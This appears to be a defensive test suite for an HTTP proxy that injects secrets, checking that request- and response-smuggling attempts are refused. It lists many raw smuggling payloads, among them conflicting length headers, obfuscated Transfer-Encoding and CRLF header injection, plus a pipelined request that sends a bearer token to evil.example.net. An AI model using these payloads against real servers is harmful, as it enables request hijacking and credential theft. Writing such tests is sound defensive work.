// Published attack 13, smuggling and parser differentials: what two parsers could read as different requests. The upstream is bare bytes, so
// what is compared is what really went out.
import { afterEach, describe, expect, it } from 'vitest';
import { Lab } from '../proxy/lab.ts';
import { RawUpstream, sayOk, Wire } from './wire.ts';

let lab: Lab | undefined;
let upstream: RawUpstream | undefined;

afterEach(async () => {
  await lab?.close();
  upstream?.close();
  lab = upstream = undefined;
});

async function start(): Promise<{ readonly lab: Lab; readonly upstream: RawUpstream; readonly wire: Wire }> {
  upstream = await RawUpstream.start(sayOk);
  lab = await Lab.start({ secrets: [{ name: 'TOKEN', hosts: ['api.example.com:80'] }], dial: { open: upstream.open } });
  return { lab, upstream, wire: new Wire(await lab.connect('api.example.com:80')) };
}

/** A request that would get the value, smuggled behind another one. */
function hidden(token: string): string {
  return `GET /hidden HTTP/1.1\r\nHost: api.example.com\r\nAuthorization: Bearer ${token}\r\n\r\n`;
}

const HOST = 'Host: api.example.com\r\n';

// microsandbox and dsbx refuse these; RFC 9112 6.1, 6.3 and 5.2.
const REFUSED: readonly (readonly [string, string])[] = [
  ['Transfer-Encoding and Content-Length', `POST / HTTP/1.1\r\n${HOST}Content-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n`],
  ['Content-Length and Transfer-Encoding', `POST / HTTP/1.1\r\n${HOST}Transfer-Encoding: chunked\r\nContent-Length: 5\r\n\r\n0\r\n\r\n`],
  ['two lengths that differ', `POST / HTTP/1.1\r\n${HOST}Content-Length: 5\r\nContent-Length: 6\r\n\r\nhello`],
  ['two lengths that agree', `POST / HTTP/1.1\r\n${HOST}Content-Length: 5\r\nContent-Length: 5\r\n\r\nhello`],
  ['a list of lengths', `POST / HTTP/1.1\r\n${HOST}Content-Length: 5, 5\r\n\r\nhello`],
  ['a length with a plus sign', `POST / HTTP/1.1\r\n${HOST}Content-Length: +5\r\n\r\nhello`],
  ['a negative length', `POST / HTTP/1.1\r\n${HOST}Content-Length: -5\r\n\r\nhello`],
  ['a length in hexadecimal', `POST / HTTP/1.1\r\n${HOST}Content-Length: 0x5\r\n\r\nhello`],
  ['a length that overflows', `POST / HTTP/1.1\r\n${HOST}Content-Length: 18446744073709551621\r\n\r\nhello`],
  ['a coding that only contains chunked', `POST / HTTP/1.1\r\n${HOST}Transfer-Encoding: xchunked\r\n\r\n0\r\n\r\n`],
  ['chunked that is not last', `POST / HTTP/1.1\r\n${HOST}Transfer-Encoding: chunked, identity\r\n\r\n0\r\n\r\n`],
  ['a space before the colon', `POST / HTTP/1.1\r\n${HOST}Transfer-Encoding : chunked\r\n\r\n0\r\n\r\n`],
  ['a space before the first field', `GET / HTTP/1.1\r\n X: y\r\n${HOST}\r\n`],
  ['a folded line', `GET / HTTP/1.1\r\n${HOST}X-A: b\r\n Transfer-Encoding: chunked\r\n\r\n`],
  ['a bare CR in a value', `GET / HTTP/1.1\r\n${HOST}X-A: b\rX-B: c\r\n\r\n`],
  ['a NUL in a value', `GET / HTTP/1.1\r\n${HOST}X-A: b\0c\r\n\r\n`],
  ['a NUL in a name', `GET / HTTP/1.1\r\n${HOST}X-A\0: b\r\n\r\n`],
  ['a space in the target', `GET /a b HTTP/1.1\r\n${HOST}\r\n`],
  ['a chunk size with a sign', `POST / HTTP/1.1\r\n${HOST}Transfer-Encoding: chunked\r\n\r\n+5\r\nhello\r\n0\r\n\r\n`],
  ['a chunk size with 0x', `POST / HTTP/1.1\r\n${HOST}Transfer-Encoding: chunked\r\n\r\n0x5\r\nhello\r\n0\r\n\r\n`],
  ['no version', `GET /\r\n${HOST}\r\n`],
  ['a version that does not exist', `GET / HTTP/1.9\r\n${HOST}\r\n`],
];

const UNCLEAR_HOST: readonly (readonly [string, string])[] = [
  ['two Host fields', `${HOST}Host: evil.example.net\r\n`],
  ['two Host fields, the right one last', `Host: evil.example.net\r\n${HOST}`],
  ['two Host fields that agree', HOST + HOST],
  ['no Host field', 'X-A: b\r\n'],
  ['a Host that Connection takes away', `${HOST}Connection: host\r\n`],
];

describe('a request that could be read in two ways', () => {
  it.each(REFUSED)('smuggling: is refused with %s, and nothing behind it is answered', async (_what, request) => {
    const { lab, upstream, wire } = await start();
    wire.write(request + hidden(lab.token()));
    await wire.closed();
    expect(wire.text).toMatch(/^HTTP\/1\.1 4\d\d /);
    const sent = upstream.seen.join('');
    expect(sent).not.toContain('/hidden');
    expect(sent).not.toContain(lab.value());
  });

  // RFC 9112 2.2 lets a parser take a bare LF; what goes on has none.
  it('smuggling: with bare line feeds is refused or written anew', async () => {
    const { lab, upstream, wire } = await start();
    wire.write(`GET /x HTTP/1.1\nHost: api.example.com\nX-A: b\n\n${hidden(lab.token())}`);
    await wire.answers(2);
    for (const sent of upstream.seen) expect(sent).not.toMatch(/[^\r]\n/);
    expect(wire.text).toMatch(/^HTTP\/1\.1 [24]\d\d /);
  });

  it.each(UNCLEAR_HOST)('smuggling: is refused with %s', async (_what, fields) => {
    const { upstream, wire } = await start();
    wire.write(`GET /x HTTP/1.1\r\n${fields}\r\n`);
    const [answer] = await wire.answers(1);
    expect(answer?.status).toBe(400);
    expect(upstream.seen).toEqual([]);
  });

  it('smuggling: chunk extensions do not go on', async () => {
    const { upstream, wire } = await start();
    wire.write(`POST /x HTTP/1.1\r\n${HOST}Transfer-Encoding: chunked\r\n\r\n5;name=value\r\nhello\r\n0\r\n\r\n`);
    await wire.until(() => upstream.seen.length > 0);
    await expect.poll(() => upstream.seen.join(''), { timeout: 10_000 }).toMatch(/\r\n\r\n5\r\nhello\r\n0\r\n\r\n$/);
    expect(upstream.seen.join('')).not.toContain('name=value');
  });

  it('smuggling: empty lines before a request do not go on', async () => {
    const { upstream, wire } = await start();
    wire.write(`GET /one HTTP/1.1\r\n${HOST}\r\n`);
    await wire.answers(1);
    wire.write(`\r\n\r\nGET /two HTTP/1.1\r\n${HOST}\r\n`);
    await expect.poll(() => upstream.seen.join(''), { timeout: 10_000 }).toContain('GET /two');
    expect(upstream.seen.join('')).not.toContain('\r\n\r\n\r\n');
  });

  it('smuggling: an obfuscated Transfer-Encoding that is accepted goes on as plain chunked', async () => {
    const { upstream, wire } = await start();
    wire.write(`POST /x HTTP/1.1\r\n${HOST}transfer-ENCODING:\t cHuNkEd \r\n\r\n5\r\nhello\r\n0\r\n\r\n`);
    await wire.answers(1);
    for (const sent of upstream.seen) {
      expect(sent.match(/transfer-encoding/gi)).toHaveLength(1);
      expect(sent).toContain('\r\nTransfer-Encoding: chunked\r\n');
    }
  });

  it('smuggling: a body that Connection hides is not taken for a request', async () => {
    const { lab, upstream, wire } = await start();
    const body = hidden(lab.token());
    wire.write(`POST /x HTTP/1.1\r\n${HOST}Connection: content-length\r\nContent-Length: ${String(body.length)}\r\n\r\n${body}`);
    await wire.answers(1);
    expect(upstream.seen.join('')).not.toContain('GET /hidden');
    expect(upstream.seen.join('')).not.toContain(lab.value());
  });

  // Allowed-host exfiltration over one connection: the first request opens the way for the second.
  it('smuggling: a pipelined second request to another Host is refused', async () => {
    const { lab, upstream, wire } = await start();
    wire.write(`GET /one HTTP/1.1\r\n${HOST}\r\nGET /two HTTP/1.1\r\nHost: evil.example.net\r\nAuthorization: ${lab.token()}\r\n\r\n`);
    const answers = await wire.answers(2);
    expect(answers.map(({ status }) => status)).toEqual([200, 421]);
    expect(upstream.seen.join('')).not.toContain('/two');
  });

  it('smuggling: a line end inside a value cannot make a second field', async () => {
    upstream = await RawUpstream.start(sayOk);
    const value = 'CANARY-first\r\nX-Injected: yes';
    lab = await Lab.start({ secrets: [{ name: 'TOKEN', value, hosts: ['api.example.com:80'] }], dial: { open: upstream.open } });
    const wire = new Wire(await lab.connect('api.example.com:80'));
    wire.write(`GET /?token=${lab.token()} HTTP/1.1\r\n${HOST}Authorization: Bearer ${lab.token()}\r\n\r\n`);
    await wire.answers(1);
    expect(upstream.seen.join('')).not.toMatch(/^X-Injected/im);
    expect(upstream.seen.join('')).toContain(`Authorization: Bearer ${lab.token()}\r\n`);
  });
});

describe('an answer that could be read in two ways', () => {
  // nono #1617, and request tunnelling in reverse: what follows an answer must not become the answer to somebody else.
  it('smuggling: bytes behind an answer never answer the next request', async () => {
    upstream = await RawUpstream.start((socket, soFar) => {
      if (!soFar.endsWith('\r\n\r\n')) return;
      const own = soFar.includes('/second') ? 'mine' : 'first';
      const poison = 'HTTP/1.1 200 OK\r\nContent-Length: 6\r\n\r\npoison';
      socket.write(`HTTP/1.1 200 OK\r\nContent-Length: ${String(own.length)}\r\n\r\n${own}${own === 'first' ? poison : ''}`);
    });
    lab = await Lab.start({ dial: { open: upstream.open } });
    const wire = new Wire(await lab.connect('api.example.com:80'));
    wire.write(`GET /first HTTP/1.1\r\n${HOST}\r\n`);
    await wire.answers(1);
    wire.write(`GET /second HTTP/1.1\r\n${HOST}\r\n`);
    const answers = await wire.answers(2);
    expect(answers.map(({ body }) => body)).toEqual(['first', 'mine']);
    expect(upstream.seen).toHaveLength(2);
  });

  it.each([
    ['two lengths', 'Content-Length: 2\r\nContent-Length: 3'],
    ['a length and chunked', 'Content-Length: 2\r\nTransfer-Encoding: chunked'],
    ['a length that is no number', 'Content-Length: +2'],
    ['a bare CR', 'X-A: b\rX-B: c\r\nContent-Length: 2'],
  ])('smuggling: an answer with %s is a 502', async (_what, fields) => {
    upstream = await RawUpstream.start((socket) => {
      socket.write(`HTTP/1.1 200 OK\r\n${fields}\r\n\r\nok`);
    });
    lab = await Lab.start({ dial: { open: upstream.open } });
    const reply = await lab.ask('http://api.example.com/');
    expect(reply.status).toBe(502);
    expect(reply.headers['x-kz-error']).toBe('upstream-failed');
  });
});
